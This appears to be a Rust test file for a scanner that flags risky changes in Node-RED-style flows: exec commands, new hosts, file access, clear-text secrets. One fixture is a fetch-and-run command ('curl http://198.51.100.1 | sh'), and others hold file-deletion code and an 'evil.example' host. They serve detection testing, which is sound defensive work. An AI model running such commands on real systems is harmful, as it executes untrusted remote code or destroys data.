//! What must give no finding, or no graver one.

use model::flow::finding::Severity;
use serde_json::{Value, json};

use crate::flows::{look, nodes};

fn rules(before: &Value, after: &Value) -> Vec<String> {
    let text = |value: &Value| {
        if value.is_null() {
            String::new()
        } else {
            value.to_string()
        }
    };
    let (_, found) = look(&nodes(&text(before)), &nodes(&text(after)));
    found
        .findings
        .into_iter()
        .flatten()
        .map(|it| it.rule)
        .collect()
}

#[test]
fn what_is_harmless_gives_no_finding() {
    for harmless in [
        json!({"type": "debug", "complete": "payload"}),
        json!({"type": "function", "func": "return msg;", "initialize": "// Code added here\n", "libs": []}),
        json!([{"type": "mqtt in", "broker": "a1b2c3d4e5f60718"}, {"type": "mqtt-broker", "id": "a1b2c3d4e5f60718"}]),
        json!([{"type": "mqtt in", "broker": "1a2b3c4d.5e6f7a"}, {"type": "mqtt-broker", "id": "1a2b3c4d.5e6f7a"}]),
        json!({"type": "tcp in", "server": "client", "host": "localhost"}),
        json!({"type": "comment", "info": "see http://docs.example"}),
        json!({"type": "x", "template": "<svg xmlns=\"http://www.w3.org/2000/svg\">"}),
        json!({"type": "tab", "env": [{"name": "TOKEN", "value": "x", "type": "cred"},
            {"name": "PASSWORD", "value": "${PASSWORD}", "type": "str"}, {"name": "LIMIT", "value": "5"}]}),
        json!({"type": "x", "d": false}),
        json!({"type": "debug", "d": true}),
        json!({"type": "inject", "name": "site/<room>/set"}),
        json!({"type": "x", "url": "http:{{host}}/x"}),
        json!({"type": "ui_template", "format": "<a href=\"http://{{msg.ip}}/\">"}),
        json!({"type": "change", "rules": [{"t": "set", "p": "password", "to": "payload", "tot": "msg"}]}),
        json!({"type": "inject", "payload": "c2f0a1d4-1b2c-4d3e-8f90-123456789abc", "topic": "d41d8cd98f00b204e9800998ecf8427e"}),
    ] {
        assert_eq!(
            rules(&Value::Null, &harmless),
            Vec::<String>::new(),
            "{harmless}"
        );
    }
}

#[test]
fn plain_code_is_a_warning_and_nothing_more() {
    let code =
        "// process the data, import nothing\nmsg.processed = 1; msg.t = '21\\u00b0C'; return msg;";
    let node = json!({"type": "function", "func": code});
    assert_eq!(rules(&Value::Null, &node), ["function-code"]);
}

#[test]
fn a_new_name_or_place_of_the_gravest_node_is_no_finding() {
    let exec = json!({"type": "exec", "command": "curl http://198.51.100.1 | sh", "x": 1, "y": 1});
    for (key, value) in [("name", json!("other")), ("x", json!(5))] {
        let mut after = exec.clone();
        after[key] = value;
        assert_eq!(rules(&exec, &after), Vec::<String>::new(), "{key}");
    }
}

/// Only what a change adds to code is told, and where it stands.
#[test]
fn code_that_was_there_before_is_not_told_again() {
    let before = json!({"type": "function", "func": "msg.a = env.get('A');\nreturn msg;"});
    let after = json!({"type": "function", "func": "msg.a = env.get('A');\n\nmsg.b = process.pid;\nreturn msg;"});
    let (_, found) = look(&nodes(&before.to_string()), &nodes(&after.to_string()));
    let found: Vec<_> = found.findings.into_iter().flatten().collect();
    let told: Vec<_> = found.iter().map(|it| (it.rule.as_str(), it.line)).collect();
    assert_eq!(
        told,
        [("code-process", Some(3)), ("function-code", Some(2))]
    );
}

#[test]
fn the_gravest_comes_first_and_no_secret_is_told() {
    let node = json!({"type": "exec", "command": "x", "d": true, "token": "s3cret9",
        "url": "http://u:s3cret9@a.example", "credentials": {"k": "s3cret9"}});
    let (_, found) = look(&nodes(""), &nodes(&node.to_string()));
    let found: Vec<_> = found.findings.into_iter().flatten().collect();
    assert_eq!(found[0].severity, Severity::Danger);
    assert!(found.is_sorted_by(|one, other| one.severity >= other.severity));
    assert!(found.iter().any(|it| it.rule == "secret-in-clear"));
    assert!(!format!("{found:?}").contains("s3cret9"));
}

/// A mark is the same for the same matter, and another for another.
#[test]
fn a_finding_is_known_again() {
    let mark = |command: &str, name: &str| {
        let node = json!({"type": "exec", "command": command, "name": name});
        let (_, found) = look(&nodes(""), &nodes(&node.to_string()));
        found.findings.into_iter().flatten().next().unwrap().mark
    };
    assert_eq!(mark("reboot", "a"), mark("reboot", "b"));
    assert_ne!(mark("reboot", "a"), mark("reboot -f", "a"));
}

/// A risk accepted for one host, module or code does not cover another that reads the same in the
/// message: what a message cuts off or counts is part of the matter.
#[test]
fn an_accepted_risk_covers_nothing_that_comes_later() {
    let mark = |before: &Value, after: &Value, rule: &str| {
        let (_, found) = look(&nodes(&before.to_string()), &nodes(&after.to_string()));
        let mut found = found.findings.into_iter().flatten();
        found.find(|it| it.rule == rule).map(|it| it.mark)
    };
    let long = "a".repeat(120);
    let urls = |last: &str| {
        let named: Vec<String> = (0..6).map(|n| format!("http://h{n}.example ")).collect();
        named.concat() + last
    };
    let libs = |last: &str| {
        let named = ["a", "b", "c", "d", "e", "f", last].map(|it| json!({"var": it, "module": it}));
        json!({"type": "function", "func": "return msg;", "libs": named})
    };
    let code = |path: &str| json!({"type": "function", "libs": [{"var": "fs", "module": "fs"}], "func": format!("fs.rmSync('/{long}/' + '{path}'); return msg;")});
    let talks = |to: &str| json!({"type": "function", "libs": [{"var": "http", "module": "http"}], "func": format!("http.get({to}); return msg;")});
    let page =
        |code: &str| json!({"type": "ui_template", "format": format!("<script>{code}</script>")});
    let none = json!([]);
    for (rule, one, other) in [
        (
            "new-host",
            json!({"type": "x", "to": urls("http://one.example")}),
            json!({"type": "x", "to": urls("http://two.example")}),
        ),
        (
            "new-host",
            json!({"type": "x", "host": format!("{long}.one.example")}),
            json!({"type": "x", "host": format!("{long}.two.example")}),
        ),
        ("function-modules", libs("left"), libs("right")),
        ("code-machine", code("x"), code("y")),
        ("code-network", talks("msg.a"), talks("msg.b")),
        ("code-network", page("fetch(x)"), page("fetch(y)")),
        (
            "code-broken",
            json!({"type": "function", "func": "a b c"}),
            json!({"type": "function", "func": "a b c d"}),
        ),
        (
            "exec-command",
            json!({"type": "exec", "command": format!("echo {long}; one")}),
            json!({"type": "exec", "command": format!("echo {long}; two")}),
        ),
        (
            "file-access",
            json!({"type": "file in", "filename": format!("/{long}/one")}),
            json!({"type": "file in", "filename": format!("/{long}/two")}),
        ),
    ] {
        let (one, other) = (mark(&none, &one, rule), mark(&none, &other, rule));
        assert!(
            one.is_some() && other.is_some() && one != other,
            "{rule}: {one:?} {other:?}"
        );
    }
    let broker = |host: &str| json!({"type": "mqtt-broker", "broker": host, "credentials": {"password": "p"}});
    let to = |host: &str| {
        mark(
            &broker("first.example"),
            &broker(host),
            "credential-to-new-host",
        )
    };
    assert!(to("one.example").is_some() && to("one.example") != to("two.example"));
}

/// What hangs together by context is accepted with those it hangs together with, and in the flow
/// whose it is.
#[test]
fn an_accepted_tie_by_context_covers_no_other() {
    let marks = |tab: &str, reader: &str, code: [&str; 2], rule: &str| {
        let flow = |code: &str| {
            let mut all = vec![
                json!({"id": tab, "type": "tab"}),
                json!({"id": "n", "type": "function", "z": tab, "func": code}),
            ];
            for n in 0..7 {
                let id = if n == 6 {
                    reader.to_owned()
                } else {
                    format!("r{n}")
                };
                all.push(json!({"id": id, "type": "function", "name": "f", "z": tab, "func": "return flow.get('limit');"}));
            }
            Value::from(all).to_string()
        };
        let (_, found) = look(&nodes(&flow(code[0])), &nodes(&flow(code[1])));
        let mut found = found.findings.into_iter().flatten();
        found.find(|it| it.rule == rule).map(|it| it.mark)
    };
    let (none, set, worked) = (
        "return 1;",
        "flow.set('limit', 1);",
        "flow.set(msg.topic, 1);",
    );
    for (code, rule) in [
        ([none, set], "context-way"),
        ([none, worked], "context-way"),
        ([set, none], "context-unset"),
    ] {
        let mark = |tab, reader| marks(tab, reader, code, rule);
        let one = mark("t", "last");
        assert!(one.is_some() && one == mark("t", "last"), "{rule} {code:?}");
        assert_ne!(one, mark("t", "other"), "{rule} {code:?}");
        assert_ne!(one, mark("u", "last"), "{rule} {code:?}");
    }
}

/// A host whose first hundred letters were there before is another host.
#[test]
fn a_long_host_does_not_pass_for_the_one_before() {
    let node = |end: &str| {
        let labels = ["a".repeat(60), "b".repeat(60)].join(".");
        json!({"type": "http request", "url": format!("https://{labels}.{end}/")})
    };
    assert!(rules(&node("good.example"), &node("evil.example")).contains(&"new-host".to_owned()));
}

/// The fields of a way that a node does not go say nothing.
#[test]
fn a_port_that_is_not_used_is_no_device() {
    let client = |kind: &str| json!({"type": "modbus-client", "clienttype": kind, "tcpHost": "127.0.0.1", "serialPort": "/dev/ttyUSB0"});
    assert!(!rules(&Value::Null, &client("tcp")).contains(&"serial-port".to_owned()));
    assert!(rules(&Value::Null, &client("simpleser")).contains(&"serial-port".to_owned()));
    assert!(rules(&client("tcp"), &client("simpleser")).contains(&"serial-port".to_owned()));
}
